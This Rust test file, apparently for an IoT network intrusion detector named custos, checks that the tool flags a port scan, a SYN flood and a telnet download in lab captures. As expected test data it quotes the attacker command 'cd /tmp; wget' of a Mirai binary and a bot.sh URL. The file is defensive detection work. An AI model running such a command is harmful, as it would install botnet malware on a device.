//! "First hour with custos": what happened in the lab's reference capture is in the outputs —
//! the attacker's roles, the scan, the SYN flood, the command typed after the telnet login and
//! the download it made — and a capture with zeroed MAC addresses still lists its hosts.

mod common;

use common::{custos, shared};
use serde_json::Value;
use std::collections::BTreeSet;
use std::ffi::OsStr;
use std::path::Path;

struct Run {
    devices: Value,
    findings: Vec<Value>,
    events: Vec<Value>,
    stats: Value,
    raw: [String; 3],
}

fn analyze(capture: &Path, extra: &[&OsStr]) -> Run {
    let out = tempfile::tempdir().unwrap();
    let mut args = vec![
        OsStr::new("analyze"),
        capture.as_os_str(),
        OsStr::new("-o"),
        out.path().as_os_str(),
        OsStr::new("--quiet"),
    ];
    args.extend_from_slice(extra);
    let r = custos(&args);
    assert!(r.status.success(), "{}", String::from_utf8_lossy(&r.stderr));
    let read = |name: &str| std::fs::read_to_string(out.path().join(name)).unwrap();
    let lines = |text: &str| -> Vec<Value> {
        text.lines()
            .map(|l| serde_json::from_str(l).unwrap())
            .collect()
    };
    let raw = [
        read("devices.json"),
        read("findings.jsonl"),
        read("events.jsonl"),
    ];
    Run {
        devices: serde_json::from_str(&raw[0]).unwrap(),
        findings: lines(&raw[1]),
        events: lines(&raw[2]),
        stats: serde_json::from_str(&read("stats.json")).unwrap(),
        raw,
    }
}

fn roles(d: &Value) -> BTreeSet<String> {
    d["roles"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| r.as_str().unwrap().to_string())
        .collect()
}

fn with_rule<'a>(run: &'a Run, rule: &str) -> Vec<&'a Value> {
    run.findings
        .iter()
        .map(|f| &f["finding"])
        .filter(|f| f["rule"] == rule)
        .collect()
}

const ATTACKER: &str = "198.18.0.66";

/// The reference capture analysed once, shared by the tests that only read its outputs.
fn reference() -> Option<Run> {
    let capture = shared()?.join("reference/kitsune/iotlab-dev.pcap");
    let run = analyze(&capture, &[]);
    assert_eq!(
        run.stats["app"]["events"].as_u64().unwrap(),
        run.events.len() as u64
    );
    assert_eq!(
        run.stats["app"]["findings"].as_u64().unwrap(),
        run.findings.len() as u64
    );
    Some(run)
}

#[test]
fn reference_capture_roles_scans_and_flood_name_the_attacker() {
    let Some(run) = reference() else { return };
    // Roles: the attacker scans and attacks; no other device does either.
    for d in run.devices["devices"].as_array().unwrap() {
        let is_attacker = d["ips"].as_array().unwrap().iter().any(|i| i == ATTACKER);
        let r = roles(d);
        if is_attacker {
            assert!(r.contains("scanner") && r.contains("attacker"), "{r:?}");
        } else {
            assert!(!r.contains("scanner") && !r.contains("attacker"), "{d:#}");
        }
    }

    // The nmap SYN scan: 200 ports of 198.18.0.12 and of the gateway, T1046.
    let scans = with_rule(&run, "network-service-discovery");
    let scanned: BTreeSet<&str> = scans
        .iter()
        .map(|f| f["device"]["ip"].as_str().unwrap())
        .collect();
    assert_eq!(scanned, BTreeSet::from(["198.18.0.1", "198.18.0.12"]));
    for f in &scans {
        assert_eq!(f["peer"]["ip"], ATTACKER);
        assert_eq!(f["mitre_attack"][0], "T1046");
        assert_eq!(f["details"]["kind"], "port_scan");
        assert_eq!(f["details"]["distinct"], 200);
        assert_eq!(f["app_proto"], "tcp");
    }

    // The hping3 SYN flood on the gateway's port 80.
    let floods = with_rule(&run, "syn-flood");
    assert_eq!(floods.len(), 1, "{:#?}", run.findings);
    let f = floods[0];
    assert_eq!(f["device"]["ip"], "198.18.0.1");
    assert_eq!(f["device"]["port"], 80);
    assert_eq!(f["peer"]["ip"], ATTACKER);
    assert_eq!(f["mitre_attack"][0], "T1499.001");
    assert_eq!(f["details"]["packets"], 1500);
    assert_eq!(f["details"]["handshakes"], 0);
    assert!(with_rule(&run, "udp-flood").is_empty());

    // Scan and flood events name the attacker too.
    let behaviour: Vec<&Value> = run
        .events
        .iter()
        .filter(|e| e["event_type"] == "scan" || e["event_type"] == "flood")
        .collect();
    assert_eq!(
        behaviour.len(),
        6,
        "a start and an end each: {behaviour:#?}"
    );
    assert!(behaviour.iter().all(|e| e["src_ip"] == ATTACKER));
}

#[test]
fn reference_capture_command_after_login_and_its_download() {
    let Some(run) = reference() else { return };
    // The command typed after the successful login, as an event.
    let url = "http://198.18.0.66/bins/mirai.arm7";
    let commands: Vec<&Value> = run
        .events
        .iter()
        .filter(|e| e["event_type"] == "telnet" && e["telnet"]["command"].is_object())
        .collect();
    assert_eq!(commands.len(), 1, "{commands:#?}");
    let c = &commands[0]["telnet"]["command"];
    assert_eq!(c["line"], format!("cd /tmp; wget {url}"));
    assert_eq!(c["index"], 1);
    assert_eq!(c["truncated"], false);
    assert_eq!(c["downloads"][0]["url"], url);
    assert_eq!(commands[0]["src_ip"], ATTACKER);

    // Its download, as a finding on the gateway whose shell ran it.
    let dl = with_rule(&run, "download-and-execute");
    assert_eq!(dl.len(), 1, "{:#?}", run.findings);
    let d = dl[0];
    assert_eq!(d["severity"], "high");
    assert_eq!(d["device"]["ip"], "198.18.0.1");
    assert_eq!(d["peer"]["ip"], ATTACKER);
    assert_eq!(d["details"]["urls"][0], url);
    assert_eq!(d["details"]["executed"], false);
    assert_eq!(d["mitre_attack"][0], "T1105");
    let packet = commands[0]["custos"]["packet"].clone();
    assert!(run
        .findings
        .iter()
        .any(|f| f["finding"]["rule"] == "download-and-execute"
            && f["evidence"]["packets"]
                .as_array()
                .unwrap()
                .iter()
                .any(|p| p["packet"] == packet)));
}

#[test]
fn reference_capture_outputs_do_not_depend_on_threads() {
    let Some(shared) = shared() else { return };
    let capture = shared.join("reference/kitsune/iotlab-dev.pcap");
    let run = analyze(&capture, &[]);
    // The same bytes on one thread and on three.
    let one = analyze(&capture, &[OsStr::new("--threads"), OsStr::new("1")]);
    let three = analyze(&capture, &[OsStr::new("--threads"), OsStr::new("3")]);
    assert!(
        one.raw == three.raw,
        "outputs differ between 1 and 3 threads"
    );
    assert!(one.raw == run.raw, "outputs differ between runs");
}

#[test]
fn sample_ten_port_scan_is_a_finding() {
    let capture = custos_test_support::repo_root().join("samples/iot-small.pcap");
    let run = analyze(&capture, &[]);
    let scans = with_rule(&run, "network-service-discovery");
    assert_eq!(scans.len(), 1, "{:#?}", run.findings);
    assert_eq!(scans[0]["peer"]["ip"], ATTACKER);
    assert_eq!(scans[0]["details"]["distinct"], 10);
    assert!(with_rule(&run, "syn-flood").is_empty());
    let dl = with_rule(&run, "download-and-execute");
    assert_eq!(dl.len(), 1);
    assert_eq!(dl[0]["details"]["urls"][0], "http://198.18.0.66/bot.sh");
    let scanners: Vec<&Value> = run.devices["devices"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|d| roles(d).contains("scanner"))
        .collect();
    assert_eq!(scanners.len(), 1);
    assert_eq!(scanners[0]["ips"][0], ATTACKER);
}

#[test]
fn zeroed_macs_fall_back_to_devices_by_ip() {
    let Some(shared) = shared() else { return };
    // Zeek's trace: every frame's MAC addresses are 00:00:00:00:00:00; three hosts exchange
    // 5 549 Modbus events.
    let run = analyze(
        &shared.join("corpus/zeek/traces/modbus/modbusBig.pcap"),
        &[],
    );
    let modbus = run
        .events
        .iter()
        .filter(|e| e["event_type"] == "modbus")
        .count();
    assert_eq!(modbus, 5549);
    let devices = run.devices["devices"].as_array().unwrap();
    let ids: BTreeSet<&str> = devices.iter().map(|d| d["id"].as_str().unwrap()).collect();
    assert_eq!(
        ids,
        BTreeSet::from(["10.235.149.240", "10.235.149.243", "10.235.149.95"])
    );
    for d in devices {
        assert!(d["mac"].is_null(), "{d:#}");
        assert!(d["packets_sent"].as_u64().unwrap() > 1000, "{d:#}");
    }
    let server = devices
        .iter()
        .find(|d| d["id"] == "10.235.149.243")
        .unwrap();
    assert_eq!(server["services_offered"][0]["port"], 502);
    assert!(roles(server).contains("modbus_server"));
    // Findings name no zero MAC either.
    assert!(!run.raw[1].contains("00:00:00:00:00:00"));
}

#[test]
fn scan_and_flood_thresholds_come_from_the_settings_file() {
    let capture = custos_test_support::repo_root().join("samples/iot-small.pcap");
    let dir = tempfile::tempdir().unwrap();
    let cfg = dir.path().join("app.toml");
    std::fs::write(&cfg, "[findings]\nscan_ports = 11\n").unwrap();
    let run = analyze(&capture, &[OsStr::new("--app-config"), cfg.as_os_str()]);
    assert!(
        with_rule(&run, "network-service-discovery").is_empty(),
        "ten ports stay below a threshold of eleven"
    );
    std::fs::write(&cfg, "[findings]\nscan_ports = 5\nscan_window_s = 1\n").unwrap();
    let run = analyze(&capture, &[OsStr::new("--app-config"), cfg.as_os_str()]);
    let scans = with_rule(&run, "network-service-discovery");
    assert_eq!(scans.len(), 1);
    assert_eq!(scans[0]["details"]["threshold"], 5);
    assert_eq!(scans[0]["details"]["window_s"], 1);
}
